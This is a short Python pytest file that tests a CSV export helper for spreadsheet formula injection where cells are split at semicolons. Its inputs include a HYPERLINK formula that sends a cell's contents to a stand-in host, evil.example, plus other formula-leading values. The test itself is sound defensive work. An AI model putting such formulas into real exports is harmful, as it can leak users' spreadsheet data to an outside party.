"""Found in review: where a spreadsheet splits at semicolons, a formula in the middle of a text is a cell of its own."""

import csv
import io

import pytest

from msp.web.csv_answers import _written

TEXTS = ('printer;=HYPERLINK("https://evil.example/"&A1)', "printer;=1+1", "a; =1+1", "a;+1", "a;@SUM(A1)")


@pytest.mark.parametrize("words", TEXTS)
def test_no_formula_begins_a_cell_also_where_semicolons_separate(words: str):
    text = _written(["Reference", "Subject"], [["ACORN-1", words]]).lstrip("\ufeff")
    for row in csv.reader(io.StringIO(text), delimiter=";"):
        for cell in row:
            assert not cell.lstrip(' "').startswith(("=", "+", "-", "@")), cell
